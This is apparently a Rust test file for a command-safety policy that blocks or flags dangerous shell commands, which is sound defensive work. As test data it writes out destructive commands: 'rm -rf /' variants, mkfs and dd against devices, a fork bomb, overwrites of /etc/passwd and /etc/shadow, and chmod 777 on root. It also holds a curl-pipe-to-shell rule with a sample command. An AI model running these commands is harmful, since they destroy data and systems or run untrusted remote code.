use super::*;

fn blocked_by(cmd: &str) -> Option<String> {
    DangerPolicy::builtin().check([cmd]).blocked.map(|m| m.rule)
}

fn alarmed_by(cmd: &str) -> Vec<String> {
    DangerPolicy::builtin()
        .check([cmd])
        .alarms
        .into_iter()
        .map(|m| m.rule)
        .collect()
}

#[test]
fn destructive_commands_are_blocked() {
    for cmd in [
        "rm -rf /",
        "rm -rf /*",
        "rm -fr / ",
        "rm -r -f /",
        "rm --recursive --force /",
        "rm -rf --no-preserve-root /",
        "sudo rm -rf /usr",
        "nohup rm -rf / &",
        "cd /tmp && rm -rf /etc/",
        "echo hi; rm -Rf '/home'",
        "/bin/rm -rf /var/*",
    ] {
        assert_eq!(blocked_by(cmd).as_deref(), Some("rm_root"), "{cmd}");
    }
    assert_eq!(blocked_by("mkfs.ext4 /dev/sdz9").as_deref(), Some("mkfs"));
    assert_eq!(
        blocked_by("dd if=/dev/zero of=/dev/sdzz9 bs=1M count=1").as_deref(),
        Some("dd_to_device")
    );
    assert_eq!(blocked_by(":(){ :|:& };:").as_deref(), Some("fork_bomb"));
    assert_eq!(
        blocked_by("echo x > /etc/passwd").as_deref(),
        Some("overwrite_passwd")
    );
    assert_eq!(
        blocked_by("cp /tmp/p /etc/shadow").as_deref(),
        Some("overwrite_passwd")
    );
    assert_eq!(
        blocked_by("echo x | tee /etc/passwd").as_deref(),
        Some("overwrite_passwd")
    );
    assert_eq!(
        blocked_by("chmod -R 777 /").as_deref(),
        Some("chmod_777_root")
    );
    assert_eq!(
        blocked_by("chmod 777 -R /").as_deref(),
        Some("chmod_777_root")
    );
}

#[test]
fn ordinary_commands_pass() {
    for cmd in [
        "rm -rf /tmp/build",
        "rm -rf /usr/local/app/cache",
        "rm -f /var/log/app.log",
        "docker run --rm -v /:/host alpine true",
        "ls -la /",
        "cat /etc/passwd",
        "cp /etc/passwd /tmp/passwd.bak",
        "grep root /etc/shadow",
        "dd if=/dev/zero of=/tmp/file bs=1M count=1",
        "chmod -R 755 /opt/app",
        "chmod 777 /tmp/x",
        "echo reboot-free; uptime",
        "echo reboot later",
        "grep -r shutdown /var/log",
        "confirm_shutdown_hook.sh",
        "# rm -rf / in a comment",
        "init_db.sh 6",
        "systemctl restart nginx",
    ] {
        let v = DangerPolicy::builtin().check([cmd]);
        assert_eq!(v, Verdict::default(), "{cmd}");
    }
}

#[test]
fn disruptive_commands_alarm() {
    assert_eq!(alarmed_by("shutdown -h now"), ["shutdown"]);
    assert_eq!(alarmed_by("sleep 1; /sbin/reboot"), ["shutdown"]);
    assert_eq!(alarmed_by("halt"), ["shutdown"]);
    assert_eq!(alarmed_by("init 0"), ["init_runlevel"]);
    assert_eq!(alarmed_by("telinit 6"), ["init_runlevel"]);
    assert_eq!(alarmed_by("systemctl reboot"), ["systemctl_power"]);
}

#[test]
fn scripts_are_checked_line_by_line() {
    let script = "#!/bin/bash\nset -e\necho start\nrm -rf /\n";
    let v = DangerPolicy::builtin().check(["/tmp/x.sh", script]);
    assert_eq!(v.blocked.unwrap().line, "rm -rf /");
}

#[test]
fn operator_rules_and_bad_patterns() {
    let mut specs = builtin_rules();
    specs.push(DangerRuleSpec {
        name: "no_curl_pipe_sh".into(),
        pattern: r"curl[^|]*\|\s*(ba)?sh".into(),
        action: DangerAction::Block,
        description: "piping a download into a shell".into(),
    });
    let policy = DangerPolicy::new(&specs).unwrap();
    assert_eq!(
        policy
            .check(["curl -s http://x | sh"])
            .blocked
            .unwrap()
            .rule,
        "no_curl_pipe_sh"
    );
    let bad = DangerRuleSpec {
        name: "bad".into(),
        pattern: "(".into(),
        action: DangerAction::Alarm,
        description: String::new(),
    };
    assert!(matches!(
        DangerPolicy::new(&[bad]),
        Err(DangerError::BadPattern { .. })
    ));
    let dup = [builtin_rules()[0].clone(), builtin_rules()[0].clone()];
    assert!(matches!(
        DangerPolicy::new(&dup),
        Err(DangerError::Duplicate(_))
    ));
}

#[test]
fn many_matching_lines_report_one_match_per_rule() {
    let script = "shutdown -r now\n".repeat(10_000);
    let v = DangerPolicy::builtin().check([script.as_str()]);
    assert_eq!(v.alarms.len(), 1);
    let script = format!(
        "{}rm -rf /\n{}",
        "reboot\n".repeat(1000),
        "mkfs /dev/sdz\n".repeat(1000)
    );
    let v = DangerPolicy::builtin().check([script.as_str()]);
    assert_eq!(v.blocked.unwrap().rule, "rm_root");
    assert_eq!(v.alarms.len(), 1);
}
